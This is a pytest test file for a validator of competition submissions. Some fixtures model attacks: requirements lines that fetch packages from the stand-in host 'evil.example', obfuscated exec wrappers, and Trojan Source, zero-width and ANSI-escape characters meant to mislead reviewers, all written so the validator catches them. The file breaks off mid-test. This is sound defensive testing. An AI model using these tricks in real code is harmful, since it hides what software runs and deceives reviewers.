"""Static validator rules: each hand-made bad folder is caught and its good twin passes; CLI exit codes."""

from __future__ import annotations

import json
import math
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from validator.cli import main, validate_folder
from validator.report import has_errors
from validator.rules import Finding, Rule, all_rules, builtin_rules

BPT = 3.7266  # bytes per token of the synthetic val set
SEEDS = {1: 1.08101234, 2: 1.08123456, 3: 1.08145678}
GOOD_SCRIPT = ("import math\nimport torch\n\n\ndef bpb(loss, tokens, nbytes):\n"
               "    return loss / math.log(2) * tokens / nbytes\n")


def _loss(bpb: float) -> float:
    return bpb * math.log(2) * BPT


def write_log(folder: Path, seed: int, bpb: float, code: int, model: int = 15_000_000, **over: object) -> None:
    """A synthetic log in the baseline-derived format (rulebook §9 shapes)."""
    o = {"train_ms": 590_000, "eval_ms": 80_000, "hessian": 5.0, "val_tokens": 40_540_160, "shards": 128,
         "total": model + code, "code_line": f"Code size: {code} bytes", "vocab": 8192} | over
    lines = [
        "Hyperparameters:", f"  seed: {seed}", "  matrix_lr: 0.02", f"  vocab_size: {o['vocab']}",
        "world_size:8 grad_accum_steps:1", f"val_tokens: {o['val_tokens']}", f"train_shards: {o['shards']}",
        "step:0/20000 val_loss:9.0 val_bpb:3.6 train_time:0ms step_avg:0.01ms",
        f"step:4000/20000 val_loss:2.6 val_bpb:1.12 train_time:{o['train_ms']}ms step_avg:{o['train_ms'] / 4000:.2f}ms",
        f"stopping_early: wallclock_cap train_time: {o['train_ms']}ms step: 4000/20000",
        f"GPTQ:collected 67 Hessians in {o['hessian']}s",
        f"Serialized model int6+brotli: {model} bytes", o["code_line"],
    ]
    if o["total"] is not None:
        lines.append(f"Total submission size int6+brotli: {o['total']} bytes")
    lines += [
        f"final_int6_roundtrip val_loss:{_loss(bpb + 0.02):.4f} val_bpb:{bpb + 0.02:.4f} eval_time:9000ms",
        f"final_int6_sliding_window val_loss:{_loss(bpb):.4f} val_bpb:{bpb:.4f} eval_time:{o['eval_ms']}ms",
        f"final_int6_sliding_window_exact val_loss:{_loss(bpb):.8f} val_bpb:{bpb:.8f}",
    ]
    (folder / f"train_seed{seed}.log").write_text("\n".join(lines) + "\n")


def make_folder(root: Path, name: str = "2026-05-01_GoodRecord", script: str | bytes = GOOD_SCRIPT,
                seeds: dict[int, float] | None = None, log_over: dict | None = None,
                sub_over: dict | None = None) -> Path:
    """A complete, compliant records folder under records/track_10min_16mb/."""
    folder = root / "records" / "track_10min_16mb" / name
    folder.mkdir(parents=True)
    (folder / "README.md").write_text("# Good record\n\ntorchrun --nproc_per_node=8 train_gpt.py\n")
    data = script if isinstance(script, bytes) else script.encode()  # bytes: a file in another PEP 263 encoding
    (folder / "train_gpt.py").write_bytes(data)
    code = len(data)
    seeds = SEEDS if seeds is None else seeds
    for seed, bpb in seeds.items():
        write_log(folder, seed, bpb, code, **(log_over or {}))
    sub = {"author": "A. Golfer", "github_id": "agolfer", "name": "Good record", "date": "2026-05-01",
           "track": "10min_16mb", "val_bpb": round(sum(seeds.values()) / len(seeds), 8),
           "bytes_total": 15_000_000 + code, "seeds": sorted(seeds)} | (sub_over or {})
    (folder / "submission.json").write_text(json.dumps(sub))
    return folder


def statuses(findings: list[Finding], rule: str) -> set[str]:
    return {f.status for f in findings if f.rule == rule}


def test_good_folder_passes_every_rule(tmp_path: Path) -> None:
    findings = validate_folder(make_folder(tmp_path), sota=1.1)
    bad = [f for f in findings if f.status in ("fail", "warn")]
    assert bad == []
    assert not has_errors(findings)
    assert {f.rule for f in findings} == {r.id for r in builtin_rules()}


def _rm_readme(f: Path) -> None:
    (f / "README.md").unlink()


def _stub(f: Path) -> None:
    (f / "helper_impl.py").write_text("x = 1\n" * 5000)
    (f / "train_gpt.py").write_text('exec(open(__file__.replace("train_gpt.py","helper_impl.py")).read())\n')
    for p in f.glob("*.log"):  # logs count only the stub
        p.write_text(p.read_text().replace(f"Code size: {len(GOOD_SCRIPT)} bytes", "Code size: 72 bytes"))


BAD_CASES: dict[str, tuple[str, dict, Callable[[Path], None] | None, str]] = {
    # rule: (folder name, make_folder kwargs, post-mutation, expected status)
    "FILES.REQUIRED": ("2026-05-01_X", {}, _rm_readme, "fail"),
    "FILES.RUNS_IN_FOLDER": ("2026-05-01_X", {"script": "def f(:\n    pass\n"}, None, "fail"),
    "FILES.PR_SCOPE": ("my record", {}, None, "fail"),
    "JSON.SCHEMA": ("2026-05-01_X", {"sub_over": {"val_bpb": "1.08"}}, None, "fail"),
    "SIZE.CAP": ("2026-05-01_X", {"log_over": {"total": 16_000_001}}, None, "fail"),
    "SIZE.CODE": ("2026-05-01_X", {}, _stub, "fail"),
    "SIZE.CODE_WRAPPED": ("2026-05-01_X", {"script": GOOD_SCRIPT + "#" * 1_500_000,
                                           "log_over": {"code_line": "Code size (compressed): 30000 bytes",
                                                        "total": 15_030_000}}, None, "warn"),
    "SIZE.LOG": ("2026-05-01_X", {"log_over": {"total": None}}, None, "fail"),
    "TIME.TRAIN": ("2026-05-01_X", {"log_over": {"train_ms": 700_000}}, None, "fail"),
    "TIME.TRAIN_POSTLOOP": ("2026-05-01_X", {"log_over": {"hessian": 20.0}}, None, "fail"),
    "TIME.EVAL": ("2026-05-01_X", {"log_over": {"eval_ms": 700_000}}, None, "fail"),
    "TIME.EVAL_SCOPE": ("2026-05-01_X", {"log_over": {"eval_ms": 595_000}}, None, "warn"),
    "JSON.CONSISTENCY": ("2026-05-01_X", {"sub_over": {"val_bpb": 1.0}}, None, "fail"),
    "STAT.SEEDS": ("2026-05-01_X", {"seeds": {1: 1.081}}, None, "fail"),
    "DATA.FULL_VAL": ("2026-05-01_X", {"log_over": {"val_tokens": 36_000_000}}, None, "fail"),
    "DATA.NO_VAL_IN_TRAIN": ("2026-05-01_X", {"log_over": {"shards": 1499}}, None, "fail"),
    "DATA.NO_TRAIN_AT_EVAL": ("2026-05-01_X", {"script": GOOD_SCRIPT + "from huggingface_hub import hf_hub_download\n"},
                              None, "fail"),
    "TOK.BPB": ("2026-05-01_X", {"script": GOOD_SCRIPT + "BPB = 2.0 / (math.log(2) * 3.5)\n"}, None, "fail"),
    "FILES.PLAIN_TEXT": ("2026-05-01_X", {"script": GOOD_SCRIPT + "# \u202e\n"}, None, "fail"),
}


@pytest.mark.parametrize("rule", sorted(BAD_CASES))
def test_bad_folder_is_caught(tmp_path: Path, rule: str) -> None:
    name, kwargs, mutate, expected = BAD_CASES[rule]
    folder = make_folder(tmp_path, name=name, **kwargs)
    if mutate:
        mutate(folder)
    findings = validate_folder(folder)
    assert expected in statuses(findings, rule), [f for f in findings if f.rule == rule]
    good = validate_folder(make_folder(tmp_path / "good"))
    assert statuses(good, rule) <= {"pass", "skip"}


# bad folders for these are in tests/test_validator_evalscan.py
SCANS = {"EVAL.TTT", "EVAL.PREQUANT_TTT", "EVAL.SLOT", "EVAL.NGRAM", "EVAL.NO_SELECTION", "HW.H100",
         "TRACK.PLACEMENT", "FILES.LOG_PROVENANCE", "COMPUTE.EXTERNAL"}


def test_bad_cases_cover_every_builtin_rule_but_sig() -> None:
    assert set(BAD_CASES) | {"STAT.SIG"} | SCANS == {r.id for r in builtin_rules()}


def test_good_folder_passes_the_scans(tmp_path: Path) -> None:
    findings = validate_folder(make_folder(tmp_path / "good"))
    for rule in SCANS:
        assert statuses(findings, rule) <= {"pass", "skip"}, [f for f in findings if f.rule == rule]


def test_stat_sig_both_thresholds(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    clear = validate_folder(folder, sota=1.10)  # ~0.019 bpb better: passes the README test
    assert statuses(clear, "STAT.SIG") == {"pass"}
    marginal = validate_folder(folder, sota=1.0840)  # better, but < 0.005 nats: practice test only
    assert statuses(marginal, "STAT.SIG") == {"fail"}  # the README test decides by default, no --strict needed
    assert has_errors(marginal)
    worse = validate_folder(folder, sota=1.0700)
    assert statuses(worse, "STAT.SIG") == {"fail"}
    msg = next(f.message for f in marginal if f.rule == "STAT.SIG")
    assert "t=" in msg and "p=" in msg and "0.25" in msg and "0.01" in msg


def test_strict_schema_turns_v1_gaps_into_errors(tmp_path: Path) -> None:
    folder = make_folder(tmp_path, sub_over={"author": ""})  # style: a strict-v1 gap, not a README field
    assert statuses(validate_folder(folder), "JSON.SCHEMA") == {"warn"}
    assert not has_errors(validate_folder(folder))
    assert statuses(validate_folder(folder, strict=True), "JSON.SCHEMA") == {"fail"}


@pytest.mark.parametrize("field", ["name", "github_id", "val_bpb"])
def test_readme_required_json_fields_are_errors_without_strict(tmp_path: Path, field: str) -> None:
    folder = make_folder(tmp_path)
    sub = json.loads((folder / "submission.json").read_text())
    sub[field] = ""
    (folder / "submission.json").write_text(json.dumps(sub))
    findings = validate_folder(folder)
    bad = [f for f in findings if f.rule == "JSON.SCHEMA" and f.status == "fail"]
    assert bad and bad[0].severity == "ERROR" and bad[0].field == field and has_errors(findings)


@pytest.mark.parametrize(("kwargs", "rule"), [
    ({"seeds": {1: 1.081, 2: 1.082}}, "STAT.SEEDS"),  # two seeds: not a record claim
    ({"seeds": {1: 1.081, 1001: 1.082, 2001: 1.083}, "name": "2026-05-01_Reruns"}, None),  # see below
    ({"log_over": {"hessian": 11.5}}, "TIME.TRAIN_POSTLOOP"),  # 590 s + 11.5 s of Hessians: 1.5 s over
])
def test_record_deciding_rules_are_errors_by_default(tmp_path: Path, kwargs: dict, rule: str | None) -> None:
    folder = make_folder(tmp_path, **kwargs)
    if rule is None:  # the same seed three times (file names differ): re-runs are not independent seeds
        rule = "STAT.SEEDS"
        for p in sorted(folder.glob("*.log")):
            p.write_text(p.read_text().replace(p.read_text().split("\n")[1], "  seed: 7"))
    findings = validate_folder(folder)
    assert any(f.rule == rule and f.status == "fail" and f.severity == "ERROR" for f in findings), \
        [f for f in findings if f.rule == rule]


def test_seed_configs_must_match_for_a_record(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    p = sorted(folder.glob("*.log"))[-1]
    p.write_text(p.read_text().replace("matrix_lr: 0.02", "matrix_lr: 0.03"))
    f = [x for x in validate_folder(folder) if x.rule == "STAT.SEEDS"]
    assert {(x.status, x.severity) for x in f} == {("fail", "ERROR")} and "matrix_lr" in f[0].message


def test_strict_adds_only_style(tmp_path: Path) -> None:
    """--strict changes no record-deciding verdict: only findings marked style get promoted."""
    folder = make_folder(tmp_path, script=GOOD_SCRIPT + "import brotli\n")
    loose, strict = validate_folder(folder), validate_folder(folder, strict=True)
    promoted = {(a.rule, a.message) for a, b in zip(loose, strict, strict=True) if a.status != b.status}
    assert promoted and all(a.style for a in loose if (a.rule, a.message) in promoted)
    assert not has_errors(loose) and has_errors(strict)


def test_rules_md_matches_the_code() -> None:
    from validator.rulesdoc import RULES_MD, generate

    assert RULES_MD.read_text(encoding="utf-8") == generate(), "run: python -m validator.rulesdoc"


def test_non_record_time_overrun_is_info(tmp_path: Path) -> None:
    folder = make_folder(tmp_path, log_over={"train_ms": 7_000_000})
    target = tmp_path / "records" / "track_non_record_16mb" / folder.name
    target.parent.mkdir(parents=True)
    folder.rename(target)
    f = [x for x in validate_folder(target) if x.rule == "TIME.TRAIN"]
    assert {(x.severity, x.status) for x in f} == {("INFO", "warn")}


def test_all_rules_accepts_plugin_rules() -> None:
    extra = Rule("PLUGIN.X", "t", "plugin", "INFO", lambda ctx: [])
    ids = [r.id for r in all_rules([extra])]
    assert ids[-1] == "PLUGIN.X" and len(ids) == len(builtin_rules()) + 1
    with pytest.raises(ValueError):
        all_rules([Rule("SIZE.CAP", "dup", "x", "ERROR", lambda ctx: [])])


def test_crashing_rule_becomes_skip(tmp_path: Path) -> None:
    def boom(ctx: object) -> list[Finding]:
        raise RuntimeError("bug")

    rule = Rule("PLUGIN.BOOM", "t", "p", "ERROR", boom)
    folder = make_folder(tmp_path)
    out = validate_folder(folder, extra_rules=[rule])
    assert [f.status for f in out if f.rule == "PLUGIN.BOOM"] == ["skip"]
    import argparse

    from validator.cli import run_validate

    args = argparse.Namespace(path=str(folder), strict=False, json=True, sota=None, extra_rules=[rule])
    assert run_validate(args) == 2  # incomplete validation is not a pass


def make_run_dir(root: Path, total: int = 15_000_000, total_key: str = "total_bytes") -> Path:
    run = root / "runs" / "r1"
    run.mkdir(parents=True)
    (run / "config.json").write_text(json.dumps({"config": {"core": {"seed": 1337}}}))
    events = [
        {"event": "start", "params": 10},
        {"event": "step", "step": 10, "train_loss": 3.0, "train_time_ms": 1000.0},
        {"event": "train_end", "steps": 10, "train_time_ms": 1000.0},
        {"event": "size", "code_bytes": 50_000, "model_bytes": total - 50_000, total_key: total,
         "cap": 16_000_000, "headroom": 16_000_000 - total, "fits": total <= 16_000_000, "label": "int8+zlib"},
        {"event": "final_eval", "val_loss": 2.0, "val_bpb": 1.2, "eval_time_ms": 500.0, "evaluator": "standard"},
    ]
    (run / "events.jsonl").write_text("\n".join(json.dumps(e) for e in events) + "\n")
    (run / "train.log").write_text("step:10/10 train_loss:3.0 train_time:1000ms step_avg:100.00ms\n")
    (run / "metrics.json").write_text(json.dumps({"val_bpb": 1.2, "val_loss": 2.0}))
    (run / "final_model.ptz").write_bytes(b"\0" * 16)
    return run


def test_run_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = make_run_dir(tmp_path)
    assert main([str(run), "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["ok"] and doc["summary"]["fail"] == 0
    over = make_run_dir(tmp_path / "over", total=16_000_100, total_key="total")  # pgolf's own key is "total"
    assert main([str(over)]) == 1
    assert "SIZE.CAP" in capsys.readouterr().out
    broken = make_run_dir(tmp_path / "broken")
    with (broken / "events.jsonl").open("a") as fh:
        fh.write("{not json\n")
    assert main([str(broken)]) == 2


def test_cli_exit_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = make_folder(tmp_path)
    assert main([str(good)]) == 0
    table = capsys.readouterr().out
    assert "SIZE.CAP" in table and "OK:" in table
    bad = make_folder(tmp_path / "b", log_over={"total": 16_000_001})
    assert main([str(bad), "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["ok"] is False
    assert main([str(tmp_path / "missing")]) == 2
    assert main([str(good), "--sota", "not-a-number-or-folder"]) == 2
    assert main([str(good), "--sota", str(good)]) == 1  # vs itself: no improvement -> STAT.SIG fails
    capsys.readouterr()
    old = make_folder(tmp_path / "old", seeds={7: 1.1001, 8: 1.1012, 9: 1.0995})
    assert main([str(good), "--sota", str(old)]) == 0  # a folder as SOTA: Welch on per-seed values
    assert "mean of 3" in capsys.readouterr().out


def test_add_validate_parser() -> None:
    import argparse

    from validator.cli import add_validate_parser, run_validate

    parser = argparse.ArgumentParser()
    add_validate_parser(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["validate", "x", "--strict", "--json", "--sota", "1.08"])
    assert args.strict and args.json and args.sota == "1.08" and args.func is run_validate


def test_python_m_validator(tmp_path: Path) -> None:
    good = make_folder(tmp_path)
    proc = subprocess.run([sys.executable, "-m", "validator", str(good), "--json"], capture_output=True, text=True,
                          cwd=Path(__file__).resolve().parent.parent, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["ok"] is True


def _wrapper(source: str) -> str:
    import base64
    import lzma

    blob = lzma.compress(source.encode(), format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2}])
    return ("import lzma as L,base64 as B\nexec(L.decompress(B.b85decode(" + repr(base64.b85encode(blob).decode())
            + "),format=L.FORMAT_RAW,filters=[{\"id\":L.FILTER_LZMA2}]))\n")


def test_lzma_wrapper_is_decoded_without_exec(tmp_path: Path) -> None:
    from validator.rules.base import unwrap_source

    src = GOOD_SCRIPT + "import helper_mod\nraise SystemExit('must never run')\n"
    text, wrapped = unwrap_source(_wrapper(src))
    assert wrapped and text == src
    folder = make_folder(tmp_path, script=_wrapper(src))
    (folder / "helper_mod.py").write_text("y = 2\n" * 2000)
    findings = validate_folder(folder)
    assert statuses(findings, "FILES.RUNS_IN_FOLDER") == {"pass"}
    code = [f for f in findings if f.rule == "SIZE.CODE"]
    assert [f.status for f in code] == ["warn"] and "helper_mod.py" in code[0].message  # helper not counted


@pytest.mark.parametrize("linked", ["train_gpt.py", "train_seed1337.log", "submission.json", "README.md",
                                    "helper.py", "requirements.txt"])
def test_a_shipped_file_that_is_a_symbolic_link_fails(tmp_path: Path, linked: str) -> None:
    """Git stores a link as its target's path: what the validator (and the run) read through it is not what a PR
    ships. Code, JSON, README, requirements and logs must be files (FILES.REQUIRED); a dangling link too."""
    folder = make_folder(tmp_path)
    target = tmp_path / "outside" / linked
    target.parent.mkdir()
    if (folder / linked).exists():
        (folder / linked).rename(target)
    else:
        target.write_text("x = 1\n")
    (folder / linked).symlink_to(target)
    findings = validate_folder(folder, sota=1.1)
    assert [f.file for f in findings if f.rule == "FILES.REQUIRED" and f.status == "fail"] == [linked]
    assert has_errors(findings)
    target.unlink()  # dangling: still the link a PR would ship
    assert "fail" in statuses(validate_folder(folder, sota=1.1), "FILES.REQUIRED")


def test_another_symbolic_link_is_a_warning_naming_where_it_points(tmp_path: Path) -> None:
    folder = make_folder(tmp_path)
    (tmp_path / "weights.bin").write_bytes(b"\0" * 100)
    (folder / "weights.bin").symlink_to(tmp_path / "weights.bin")
    (folder / "root").symlink_to("/")
    found = {f.file: f.message for f in validate_folder(folder, sota=1.1) if f.rule == "COMPUTE.EXTERNAL"}
    assert set(found) == {"weights.bin", "root"} and all("outside the folder" in m for m in found.values())
    assert "fail" not in statuses(validate_folder(folder, sota=1.1), "FILES.REQUIRED")


def test_latin1_wrapper_is_read_in_the_encoding_it_declares(tmp_path: Path) -> None:
    """code_wrapper's latin-1 form holds payload bytes a UTF-8 read would replace: the validator reads the file as
    its PEP 263 line says, so the static rules see the real code (its import) and the shipped size is its bytes."""
    import plugins.code_wrapper as cw
    from submissions.bundle import script_bytes

    src = GOOD_SCRIPT + "import helper_mod\nraise SystemExit('must never run')\n"
    data = script_bytes(cw.wrap(src, "brotli", "latin1"))
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    folder = make_folder(tmp_path, script=data, log_over={"code_line": f"Code size (compressed): {len(data)} bytes"})
    (folder / "helper_mod.py").write_text("y = 2\n" * 2000)
    findings = validate_folder(folder)
    assert statuses(findings, "FILES.RUNS_IN_FOLDER") == {"pass"}
    assert statuses(findings, "SIZE.CODE_WRAPPED") == {"pass"}  # "ships the wrapper that the log counts"
    (code,) = [f for f in findings if f.rule == "SIZE.CODE"]
    assert "helper_mod.py" in code.message  # found by reading the decoded code's imports


NET = "import urllib.request\nurllib.request.urlopen('http://example.com/val.bin')\n"


@pytest.mark.parametrize("case", ["appended", "transformed", "in_function", "pgolf_appended", "exec_kwargs"])
def test_code_beside_a_compressed_payload_fails_closed(tmp_path: Path, case: str) -> None:
    """Threat: the static rules read the payload while the script runs more (a statement after the exec, a transform
    of the decompressed bytes, an exec inside a function, globals passed to exec). A wrapper is a wrapper and
    nothing else, or FILES.RUNS_IN_FOLDER fails naming why; the plain form of the same code warns of the call."""
    import plugins.code_wrapper as cw

    wrapped = _wrapper(GOOD_SCRIPT)
    script = {"appended": wrapped + NET,
              "transformed": wrapped.replace("]))\n", "]).replace(b'1', b'2'))\n"),
              "in_function": "def go():\n" + "".join("    " + ln + "\n" for ln in wrapped.splitlines()) + "go()\n",
              "pgolf_appended": cw.wrap(GOOD_SCRIPT, "lzma", "printable") + NET,
              "exec_kwargs": wrapped.replace("]))\n", "]), {'__name__': 'x'})\n")}[case]
    assert "exec(" in script and script != wrapped
    findings = validate_folder(make_folder(tmp_path, script=script))
    (runs,) = [f for f in findings if f.rule == "FILES.RUNS_IN_FOLDER"]
    assert runs.status == "fail" and "cannot read" in runs.message, runs.message
    assert has_errors(findings)
    plain = validate_folder(make_folder(tmp_path / "plain", script=GOOD_SCRIPT + NET))
    assert "fail" in statuses(plain, "DATA.NO_TRAIN_AT_EVAL")  # a record's code: a download call fails


@pytest.mark.parametrize("line", ["--extra-index-url https://evil.example/simple", "-e ./vendored",
                                  "git+https://github.com/x/y.git", "weights @ https://evil.example/w-1.0.tar.gz",
                                  "./local_pkg", "-r more.txt", "https://evil.example/pkg.whl"])
def test_requirements_from_outside_the_index_fail(tmp_path: Path, line: str) -> None:
    """Threat: requirements.txt fetches a package from a URL, a VCS, a path or another index: what it installs can
    carry the validation data or a trained model and no review sees it. FILES.REQUIRED fails the line; comments
    (pip's reading: `#` after whitespace) and plain requirements with versions and markers pass."""
    folder = make_folder(tmp_path / "bad")
    (folder / "requirements.txt").write_text(f"numpy\n{line}\n")
    found = [f for f in validate_folder(folder) if f.rule == "FILES.REQUIRED" and f.status == "fail"]
    assert [(f.file, f.line) for f in found] == [("requirements.txt", 2)], found
    good = make_folder(tmp_path / "good")
    (good / "requirements.txt").write_text("# pip install --find-links https://x/ flash_attn_3\nnumpy  # ok\n"
                                           "torch==2.9.1+cu128\nbrotli>=1.1,<2; python_version >= '3.10'\n")
    assert statuses(validate_folder(good), "FILES.REQUIRED") == {"pass"}


def _stop_line(text: str, tail: str) -> str:
    return text.replace("stopping_early: wallclock_cap train_time: 590000ms step: 4000/20000\n", tail + "\n")


@pytest.mark.parametrize(("rule", "edit"), [
    # a step_avg that claims 120 s per step: the allowance is train_time / steps (148 ms), not the claim
    ("TIME.TRAIN", lambda t: t.replace("train_time:590000ms step_avg:147.50ms", "train_time:712000ms "
                                       "step_avg:120000.00ms")),
    # a final step count that contradicts the progress lines (step 4000 seen): the largest step counts
    ("TIME.TRAIN", lambda t: _stop_line(t, "stopping_early: wallclock_cap train_time: 1100000ms step: 2/20000")),
    # the final time in seconds, or on a line with a brace: every figure after `train_time:` is read, in any unit
    ("TIME.TRAIN", lambda t: _stop_line(t, "stopping_early: wallclock_cap train_time: 712.4s step: 4550/20000")),
    ("TIME.TRAIN", lambda t: _stop_line(t, "stopping_early: wallclock_cap train_time: 712047ms step: 4550/20000 "
                                           "{reason: cap}")),
    # eval time in minutes, and a decoy `time:` before the real one: the largest figure on the scoring line
    ("TIME.EVAL", lambda t: t.replace("eval_time:80000ms", "eval_time:11.8min")),
    ("TIME.EVAL", lambda t: t.replace("eval_time:80000ms", "(load time:2.1s) eval_time:708525ms")),
    # no code line: the model's bytes plus the shipped script are still over the cap
    ("SIZE.CAP", lambda t: t.replace("Serialized model int6+brotli: 15000000", "Serialized model int6+brotli: "
                                     "15990000").replace(f"Code size: {len(GOOD_SCRIPT) + 20_000} bytes\n", "")
                            .replace(f"int6+brotli: {15_000_000 + len(GOOD_SCRIPT) + 20_000} bytes",
                                     "int6+brotli: 15999000 bytes")),
], ids=["step-avg-claim", "step-count", "seconds", "brace", "eval-minutes", "eval-decoy", "size-without-code-line"])
def test_a_figure_in_another_shape_or_a_contradiction_is_not_a_pass(tmp_path: Path, rule: str, edit) -> None:
    """Threat: the log's last word on a budget in a shape the parser did not read (seconds, minutes, a brace on the
    line), a claim the log's own numbers contradict (step_avg, step count), or a size line left out, so that an
    earlier, smaller figure passes. Each is read now, and the rule fails."""
    folder = make_folder(tmp_path, script=GOOD_SCRIPT + "#" * 20_000)
    log = folder / "train_seed1.log"
    before = log.read_text()
    log.write_text(edit(before))
    assert log.read_text() != before
    assert "fail" in statuses(validate_folder(folder), rule), [
        f for f in validate_folder(folder) if f.rule == rule]
    assert statuses(validate_folder(make_folder(tmp_path / "good", script=GOOD_SCRIPT + "#" * 20_000)),
                    rule) == {"pass"}


def _with_curve(text: str, offset: float) -> str:
    curve = "".join(f"step:{s}/20000 train_loss:{3.0 - s / 1000 + offset:.4f} "  # each run its own clock
                    f"train_time:{s * 150 + int(offset * 1e4) * s % 13}ms step_avg:150.00ms\n"
                    for s in range(100, 800, 100))
    return text.replace("world_size:8", curve + "world_size:8", 1)


@pytest.mark.parametrize("case", ["renamed-seed", "no-seed", "unlisted-gpu", "dumped-world-size", "json-hardware"])
def test_seed_and_hardware_evidence_is_what_it_claims(tmp_path: Path, case: str) -> None:
    """Threats: one run shipped as two seeds (the same training curve under another seed), logs that name no seed
    counted as distinct seeds, a GPU no list of known parts names (an allow-list now: H100 only), a world size the
    Hyperparameters dump contradicts, a submission.json that says only "H100"."""
    folder = make_folder(tmp_path / "bad")
    logs = {s: folder / f"train_seed{s}.log" for s in SEEDS}
    for i, log in enumerate(logs.values()):
        log.write_text(_with_curve(log.read_text(), 0.001 * i))
    rule = "STAT.SEEDS" if case in ("renamed-seed", "no-seed") else "HW.H100"
    if case == "renamed-seed":  # seed 2's log is seed 1's run, its seed line edited
        logs[2].write_text(logs[1].read_text().replace("  seed: 1\n", "  seed: 2\n"))
    elif case == "no-seed":  # three logs, no seed in a name or a dump
        for s, log in logs.items():
            log.with_name(f"run_{'abc'[s - 1]}.log").write_text(log.read_text().replace(f"  seed: {s}\n", ""))
            log.unlink()
    elif case == "unlisted-gpu":
        logs[1].write_text(logs[1].read_text() + "|   0  NVIDIA H800 80GB HBM3          On  |\n")
    elif case == "dumped-world-size":
        logs[1].write_text(logs[1].read_text().replace("Hyperparameters:\n", "Hyperparameters:\n  world_size: 1\n"))
    else:
        sub = json.loads((folder / "submission.json").read_text())
        (folder / "submission.json").write_text(json.dumps({**sub, "hardware": "1x H100 PCIe (80 min)"}))
    found = [f for f in validate_folder(folder) if f.rule == rule and f.status == "fail"]
    assert found, case
    good = make_folder(tmp_path / "good")
    for i, s in enumerate(SEEDS):
        log = good / f"train_seed{s}.log"
        log.write_text(_with_curve(log.read_text(), 0.001 * i))
    sub = json.loads((good / "submission.json").read_text())
    (good / "submission.json").write_text(json.dumps({**sub, "hardware": "8xH100 80GB SXM"}))
    assert statuses(validate_folder(good), rule) == {"pass"}


def _per_seed(**over: object) -> dict:
    """seed_results as the logs of make_folder report them, with `over` applied to seed 2."""
    res = {str(s): {"val_bpb": b, "val_loss": round(_loss(b), 8), "bytes_total": 15_000_000 + len(GOOD_SCRIPT)}
           for s, b in SEEDS.items()}
    res["2"] |= over
    return res


@pytest.mark.parametrize(("sub_over", "field"), [
    ({"seeds": [1, 2, 7]}, "seeds"),  # a seed no log ran
    ({"seed_results": _per_seed() | {"9": {"val_bpb": 1.081}}}, "seeds"),
    ({"seed_results": _per_seed(bytes_total=14_000_000)}, "seed_results.2.bytes_total"),
    ({"seed_results": _per_seed(val_loss=1.0)}, "seed_results.2.val_loss"),
    ({"seed_results": _per_seed(val_bpb=1.05)}, "seed_results.2.val_bpb"),
], ids=["seed-without-log", "result-without-log", "seed-bytes", "seed-loss", "seed-bpb"])
def test_per_seed_claims_must_be_their_logs(tmp_path: Path, sub_over: dict, field: str) -> None:
    """Threat: the headline agrees with the logs while the per-seed table does not (a seed never run, a size or
    loss that no log reports): a reader of submission.json sees runs that do not exist. JSON.CONSISTENCY fails the
    field; the same table copied from the logs passes."""
    found = [f for f in validate_folder(make_folder(tmp_path / "bad", sub_over=sub_over))
             if f.rule == "JSON.CONSISTENCY" and f.status == "fail"]
    assert [f.field for f in found] == [field], found
    good = validate_folder(make_folder(tmp_path / "good", sub_over={"seed_results": _per_seed()}))
    assert statuses(good, "JSON.CONSISTENCY") == {"pass"}


@pytest.mark.parametrize(("file", "edit"), [
    # a CR shows the reviewer the second claim; splitlines() hands the parser both
    ("train_seed1.log", lambda t: t.replace("final_int6_sliding_window_exact",
                                               "final_int6_sliding_window_exact val_loss:9 val_bpb:9\rfinal_"
                                               "int6_sliding_window_exact", 1)),
    ("train_seed2.log", lambda t: t.replace("Total submission", "\x1b[2KTotal submission", 1)),  # ANSI erase
    ("train_seed3.log", lambda t: t.replace("\n", "\x0b", 3)),  # a vertical tab: a line break to Python only
    ("train_gpt.py", lambda t: t.replace("return loss", "return loss  # \u202e } \u2066", 1)),  # Trojan Source
    ("train_gpt.py", lambda t: t.replace("nbytes", "nby\u200btes", 1)),  # a zero-width space: two names look alike
    ("submission.json", lambda t: t.replace("A. Golfer", "A. Golfer\u2028", 1)),
    ("README.md", lambda t: t + "\u202eevil\n"),
], ids=["cr-log", "ansi-log", "vt-log", "bidi-code", "zwsp-code", "line-separator-json", "bidi-readme"])
def test_text_readers_disagree_on_fails(tmp_path: Path, file: str, edit) -> None:
    """Threat: a character on which the validator's reading and a reviewer's differ (a log line the terminal
    overwrites, a break only Python's splitlines() sees, reordered or look-alike code). FILES.PLAIN_TEXT fails the
    file and line; tab, CRLF, a leading BOM, ordinary Unicode and a README's emoji joiner are plain text."""
    folder = make_folder(tmp_path / "bad")
    path = folder / file
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8", newline="")
    found = [f for f in validate_folder(folder) if f.rule == "FILES.PLAIN_TEXT"]
    assert [(f.status, f.file) for f in found] == [("fail", file)] and found[0].line, found
    good = make_folder(tmp_path / "good", script="\ufeff" + GOOD_SCRIPT.replace("\n", "\r\n") + "# é—▁\tx\r\n")
    (good / "README.md").write_text("# Good 👩\u200d💻\n", encoding="utf-8")
    assert statuses(validate_folder(good), "FILES.PLAIN_TEXT") == {"pass"}
    (good / "train_seed2.log").write_bytes(b"\xff\xfe" + (good / "train_seed2.log").read_bytes())
    (latin,) = [f for f in validate_folder(good) if f.rule == "FILES.PLAIN_TEXT"]
    assert latin.status == "fail" and latin.file == "train_seed2.log" and "not UTF-8" in latin.message


def test_a_helper_the_script_runs_is_held_to_the_same_reading(tmp_path: Path) -> None:
    """A helper train_gpt.py imports is code the run executes: an unreadable wrapper in it fails like one in
    train_gpt.py (named), and a readable one is decoded for the scans (its network call is found)."""
    folder = make_folder(tmp_path / "a", script=GOOD_SCRIPT + "import helper_mod\n")
    (folder / "helper_mod.py").write_text(_wrapper("x = 1\n") + NET)
    (runs,) = [f for f in validate_folder(folder) if f.rule == "FILES.RUNS_IN_FOLDER"]
